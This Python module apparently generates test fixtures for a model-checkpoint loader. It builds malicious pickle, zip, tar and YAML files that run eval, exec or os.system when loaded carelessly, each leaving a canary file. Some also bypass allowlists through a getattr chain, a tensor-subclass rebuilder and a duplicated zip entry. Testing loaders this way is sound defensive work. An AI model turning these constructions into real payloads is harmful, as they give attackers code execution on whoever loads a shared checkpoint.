"""Files that run code of their author where they are read carelessly; each leaves a canary if it does."""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import torch

MAGIC = 0x1950A86A20F9469CFC6C


class Calls:
    """Pickles to a call of ``function(*arguments)``."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def state() -> OrderedDict:
    return OrderedDict(weight=torch.ones(3, 2), bias=torch.zeros(3))


def content(extra: object) -> dict:
    return {"meta": {"epoch": 1, "iter": 4, "seed": 0}, "state_dict": state(), "extra": extra}


def zipped(
    program: bytes, path: Path, *, records: dict[str, bytes] | None = None, compression: int = zipfile.ZIP_STORED
):
    """Write a file as torch.save does, around a pickle of one's own."""
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("archive/data.pkl", program)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        for name, data in (records or {}).items():
            archive.writestr(f"archive/{name}", data)


def assembled(name: str, arguments: tuple) -> bytes:
    """Return a pickle of protocol 2 that calls a name with its arguments and keeps the result in a dict."""
    module, _, attribute = name.rpartition(".")
    call = b"c" + module.encode() + b"\n" + attribute.encode() + b"\n" + pickle.dumps(arguments, 2)[2:-1] + b"R"
    return b"\x80\x02}X\x0a\x00\x00\x00state_dict" + call + b"s."


def _saved(extra: Callable[[Path], object], **options):
    def write(path: Path, canary: Path) -> None:
        torch.save(content(extra(canary)), path, **options)

    return write


def _text(place: str, text: Callable[[Path], str]):
    def write(path: Path, canary: Path) -> None:
        stored = content(None)
        stored["message_hub"] = {"log_scalars": {}, "runtime_info": {}, "resumed_keys": {}}
        target = stored["meta"] if place.startswith("meta") else stored["message_hub"]["runtime_info"]
        target[place.rpartition(".")[2]] = text(canary)
        torch.save(stored, path)

    return write


def _getattr_chain(path: Path, canary: Path) -> None:
    """``getattr(HistoryBuffer, '__init__').__globals__['__builtins__']['eval'](...)``, with names of the list only."""
    history = b"cmmengine.logging.history_buffer\nHistoryBuffer\n"
    step = b"c__builtin__\ngetattr\n"

    def text(value: str) -> bytes:
        return b"X" + struct.pack("<I", len(value)) + value.encode()

    globals_ = step + step + history + text("__init__") + b"\x86R" + text("__globals__") + b"\x86R"
    builtins = step + globals_ + text("__getitem__") + b"\x86R" + text("__builtins__") + b"\x85R"
    evaluate = step + builtins + text("__getitem__") + b"\x86R" + text("eval") + b"\x85R"
    program = b"\x80\x02" + evaluate + text(touch(canary)) + b"\x85R."
    zipped(program, path)


def _nested_pickle(path: Path, canary: Path) -> None:
    inner = pickle.dumps(Calls(eval, touch(canary)), 2)
    torch.save(content(Calls(pickle.loads, inner)), path)


def _torch_load(path: Path, canary: Path) -> None:
    inner = path.with_name("inner.pth")
    torch.save(Calls(eval, touch(canary)), inner)
    zipped(assembled("torch.serialization.load", (str(inner), None, None)), path)


def _tensor_subclass(path: Path, canary: Path) -> None:
    """A tensor subclass, which PyTorch's own list lets through, with a function as its rebuilder."""
    zipped(assembled("torch._tensor._rebuild_from_type_v2", (eval, torch.Tensor, (touch(canary),), {})), path)


def _object_array(path: Path, canary: Path) -> None:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = Calls(eval, touch(canary))
    torch.save(content(array), path)


def _protocol(number: int):
    def write(path: Path, canary: Path) -> None:
        path.write_bytes(pickle.dumps(content_without_tensors(Calls(eval, touch(canary))), number))

    return write


def content_without_tensors(extra: object) -> dict:
    return {"meta": {}, "state_dict": {}, "extra": extra}


def _module_reference(path: Path, canary: Path) -> None:
    """The old format names the class of a whole module and its source."""
    head = b"".join(pickle.dumps(part, 2) for part in (MAGIC, 1001, {"little_endian": True}))
    call = pickle.dumps(Calls(eval, touch(canary)), 2)[2:-1]
    reference = b"(X\x06\x00\x00\x00module" + call + b"X\x01\x00\x00\x00aX\x01\x00\x00\x00btQ"
    path.write_bytes(head + b"\x80\x02" + reference + b"." + pickle.dumps([], 2))


def _tar(path: Path, canary: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name, data in (
            ("storages", pickle.dumps(Calls(eval, touch(canary)), 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", pickle.dumps(Calls(eval, touch(canary)), 2)),
        ):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


def _torchscript(path: Path, canary: Path) -> None:
    program = pickle.dumps(Calls(eval, touch(canary)), 2)
    source = b"def forward(self):\n  pass\n"
    zipped(program, path, records={"constants.pkl": pickle.dumps((), 2), "code/__torch__.py": source})


def _seven_zip(path: Path, canary: Path) -> None:
    path.write_bytes(b"7z\xbc\xaf\x27\x1c\x00\x04" + pickle.dumps(Calls(eval, touch(canary)), 2))


def _nested_zip(path: Path, canary: Path) -> None:
    inner = io.BytesIO()
    torch.save(content(Calls(eval, touch(canary))), inner)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("epoch_1.pth", inner.getvalue())


def _compressed(path: Path, canary: Path) -> None:
    zipped(pickle.dumps(Calls(eval, touch(canary)), 2), path, compression=zipfile.ZIP_DEFLATED)


def _two_directories(path: Path, canary: Path) -> None:
    """A record twice: what is checked may be another one than what is read."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", pickle.dumps({"state_dict": {}}, 2))
            archive.writestr("archive/DATA.pkl", pickle.dumps(Calls(eval, touch(canary)), 2))
            archive.writestr("archive/data.pkl", pickle.dumps(Calls(eval, touch(canary)), 2))
            archive.writestr("archive/version", "3\n")


def _text_of_program(canary: Path) -> str:
    return f"model = dict(type='VMamba')\n{touch(canary)}\n"


def _yaml(canary: Path) -> str:
    return f"!!python/object/apply:os.system ['touch {canary}']\n"


def _json(canary: Path) -> str:
    return f'{{"type": "os.system", "command": "touch {canary}"}}'


#: Kind -> (writer, how a careless reader runs it: None where no installed reader would).
KINDS: dict[str, tuple[Callable[[Path, Path], None], str | None]] = {
    "os.system": (_saved(lambda canary: Calls(os.system, f"touch {canary}")), "torch"),
    "eval": (_saved(lambda canary: Calls(eval, touch(canary))), "torch"),
    "exec": (_saved(lambda canary: Calls(exec, touch(canary))), "torch"),
    "subprocess": (_saved(lambda canary: Calls(__import__("subprocess").check_call, ["touch", str(canary)])), "torch"),
    "partial": (_saved(lambda canary: Calls(__import__("functools").partial(eval, touch(canary)))), "torch"),
    "runpy": (_saved(lambda canary: Calls(__import__("runpy")._run_code, touch(canary), {})), "torch"),
    "chain of getattr": (_getattr_chain, "torch"),
    "pickle in pickle": (_nested_pickle, "torch"),
    "torch.load in pickle": (_torch_load, None),
    "tensor subclass": (_tensor_subclass, "torch"),
    "array of objects": (_object_array, "torch"),
    "protocol 0": (_protocol(0), "pickle"),
    "protocol 1": (_protocol(1), "pickle"),
    "protocol 4": (_protocol(4), "pickle"),
    "protocol 5": (_protocol(5), "pickle"),
    "zip of protocol 4": (_saved(lambda canary: Calls(eval, touch(canary)), pickle_protocol=4), "torch"),
    "old format": (
        _saved(lambda canary: Calls(eval, touch(canary)), _use_new_zipfile_serialization=False),
        "torch",
    ),
    "module of the old format": (_module_reference, "torch"),
    "tar": (_tar, "torch"),
    "TorchScript": (_torchscript, None),
    "7z": (_seven_zip, None),
    "zip in zip": (_nested_zip, None),
    "compressed": (_compressed, "torch"),
    "one name twice": (_two_directories, "torch"),
    "program in meta.config": (_text("meta.config", _text_of_program), "config"),
    "program in meta.cfg": (_text("meta.cfg", _text_of_program), "config"),
    "program in message_hub": (_text("message_hub.cfg", _text_of_program), "config"),
    "yaml tag": (_text("meta.config", _yaml), "yaml"),
    "json type": (_text("meta.config", _json), None),
}
